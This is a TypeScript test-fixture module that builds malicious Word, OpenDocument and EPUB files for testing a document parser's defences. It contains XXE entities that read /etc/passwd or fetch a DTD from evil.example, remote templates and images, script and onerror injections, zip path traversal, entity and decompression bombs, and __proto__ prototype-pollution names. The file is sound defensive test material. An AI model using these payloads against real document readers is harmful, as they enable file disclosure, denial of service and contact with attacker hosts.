// Owns documents in archives that are made to do harm: of Word, of OpenDocument, and books. Those that are read say `SEEN` once.

import { zipSync } from 'fflate';
import { encode, ENTITIES, MEBIBYTE, RUN, type HostileContent } from './hostile-content';
import { makeDocx, paragraph, relationshipsPart, run, wordPart } from './make-docx';
import { chapter, makeEpub, ONE } from './make-epub';
import { makeOdt, odtPart } from './make-odt';

const SEEN = paragraph(run('SEEN'));
const FROM_OUTSIDE = '<!DOCTYPE x [<!ENTITY c SYSTEM "file:///etc/passwd">]>';
const OF_PARAMETERS = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>';

const documentWith = (doctype: string, inner: string): Uint8Array =>
  makeDocx('', {
    'word/document.xml': wordPart('document', `<w:body>${SEEN}${inner}</w:body>`).replace('?>', `?>${doctype}`),
  });

const odtWith = (doctype: string, inner: string): Uint8Array =>
  makeOdt('', {
    'content.xml': odtPart(
      'document-content',
      `<office:body><office:text><text:p>SEEN</text:p>${inner}</office:text></office:body>`,
    ).replace('?>', `?>${doctype}`),
  });

/** Made to do harm: documents of Word. */
export const wordFiles: readonly HostileContent[] = [
  {
    what: 'macros',
    bytes: makeDocx(SEEN, {
      '[Content_Types].xml':
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      'word/vbaProject.bin': encode('Sub AutoOpen(): HIDDEN: End Sub'),
      'word/vbaData.xml': wordPart('vbaSuppData', '<w:docEvents><w:eventDocOpen/></w:docEvents>'),
    }),
    outcome: 'read',
  },
  {
    what: 'a template, a picture and an object that lie elsewhere',
    bytes: makeDocx(
      `${SEEN}<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:o" r:id="rId3" Type="Link"/></w:object></w:r></w:p>`,
      {
        'word/settings.xml': wordPart('settings', '<w:attachedTemplate r:id="rId1"/>'),
        'word/_rels/settings.xml.rels': relationshipsPart([
          ['rId1', 'attachedTemplate', 'http://evil.example/HIDDEN.dotm'],
        ]),
        'word/_rels/document.xml.rels': relationshipsPart([
          ['rId2', 'image', 'file:///dev/zero'],
          ['rId3', 'oleObject', 'https://evil.example/HIDDEN'],
        ]),
      },
    ),
    outcome: 'read',
  },
  {
    what: 'a page that is put in from another part',
    bytes: makeDocx(`${SEEN}<w:altChunk r:id="rId1"/>`, {
      'word/_rels/document.xml.rels': relationshipsPart([['rId1', 'aFChunk', 'afchunk.htm']]),
      'word/afchunk.htm': `<script>${RUN} HIDDEN</script><img src="http://evil.example/HIDDEN.png" onerror="${RUN}">`,
    }),
    outcome: 'read',
  },
  {
    what: 'a page that is put in and unpacks without end',
    bytes: makeDocx(`${SEEN}<w:altChunk r:id="rId1"/>`, {
      'word/_rels/document.xml.rels': relationshipsPart([['rId1', 'aFChunk', 'afchunk.htm']]),
      'word/afchunk.htm': new Uint8Array(20 * MEBIBYTE),
    }),
    outcome: 'file-inflates',
  },
  { what: 'entities that grow', bytes: documentWith(ENTITIES, '<w:p>&c;</w:p>'), outcome: 'file-damaged' },
  { what: 'an entity from a file', bytes: documentWith(FROM_OUTSIDE, '<w:p>&c;</w:p>'), outcome: 'file-damaged' },
  { what: 'entities from the network', bytes: documentWith(OF_PARAMETERS, '<w:p>&c;</w:p>'), outcome: 'file-damaged' },
  {
    what: 'boxes without end',
    bytes: documentWith('', '<w:sdt><w:sdtContent>'.repeat(50_000)),
    outcome: 'file-damaged',
  },
  {
    what: 'an attribute of four mebibytes',
    bytes: documentWith('', `<w:p w:rsidR="${'A'.repeat(4 * MEBIBYTE)}"/>`),
    outcome: 'read',
  },
  {
    what: 'archives in it',
    bytes: makeDocx(SEEN, { 'word/embeddings/inner.zip': zipSync({ 'a.docx': makeDocx(paragraph(run('HIDDEN'))) }) }),
    outcome: 'read',
  },
  { what: 'a part that leads out', bytes: makeDocx(SEEN, { '../../evil.xml': 'x' }), outcome: 'file-damaged' },
  {
    what: 'a relationship that leads out',
    bytes: makeDocx(SEEN, {
      '_rels/.rels': relationshipsPart([['rId1', 'officeDocument', '../../../etc/passwd']]),
    }),
    outcome: 'file-damaged',
  },
  {
    what: 'a part that unpacks without end',
    bytes: makeDocx(SEEN, { 'word/styles.xml': new Uint8Array(20 * MEBIBYTE) }),
    outcome: 'file-inflates',
  },
  {
    what: 'names that every object has',
    bytes: makeDocx(
      paragraph(run('SEEN'), '<w:pStyle w:val="__proto__"/><w:numPr><w:numId w:val="constructor"/></w:numPr>'),
      {
        'word/styles.xml': wordPart(
          'styles',
          '<w:style w:type="paragraph" w:styleId="__proto__"><w:name w:val="toString"/><w:basedOn w:val="__proto__"/></w:style>',
        ),
      },
    ),
    outcome: 'read',
  },
];

/** Made to do harm: documents of OpenDocument. */
export const openDocuments: readonly HostileContent[] = [
  { what: 'entities that grow', bytes: odtWith(ENTITIES, '<text:p>&c;</text:p>'), outcome: 'file-damaged' },
  { what: 'an entity from a file', bytes: odtWith(FROM_OUTSIDE, '<text:p>&c;</text:p>'), outcome: 'file-damaged' },
  { what: 'boxes without end', bytes: odtWith('', '<text:section>'.repeat(50_000)), outcome: 'file-damaged' },
  {
    what: 'macros, and pictures that lie elsewhere',
    bytes: makeOdt(
      '<text:p>SEEN<draw:frame><draw:image xlink:href="http://evil.example/x.png"/></draw:frame></text:p>' +
        '<office:event-listeners/><text:p><text:script xlink:href="http://evil.example/HIDDEN.js"/></text:p>',
      { 'Basic/Standard/Module1.xml': `<script>${RUN} HIDDEN</script>` },
    ),
    outcome: 'read',
  },
  {
    what: 'a style that is its own parent, and spaces without number',
    bytes: makeOdt('<text:p text:style-name="Loop">SEEN<text:s text:c="999999999"/><text:s text:c="-1"/></text:p>', {
      'styles.xml': odtPart(
        'document-styles',
        '<office:styles><style:style style:name="Loop" style:family="paragraph" style:parent-style-name="Loop"/></office:styles>',
      ),
    }),
    outcome: 'read',
  },
];

/** Made to do harm: books of EPUB. */
export const books: readonly HostileContent[] = [
  {
    what: 'scripts, and pictures that lie elsewhere',
    bytes: makeEpub({
      [ONE]: chapter(`<script>${RUN}</script><img src="http://evil.example/x.png" onerror="${RUN}"/><p>SEEN</p>`),
    }),
    outcome: 'read',
  },
  {
    what: 'entities that grow',
    bytes: makeEpub({ [ONE]: chapter('<p>&c;</p>').replace('?>', `?>${ENTITIES}`) }),
    outcome: 'file-damaged',
  },
  {
    what: 'a package that leads out',
    bytes: makeEpub({
      'META-INF/container.xml':
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="../../etc/passwd"/></rootfiles></container>',
    }),
    outcome: 'file-damaged',
  },
];
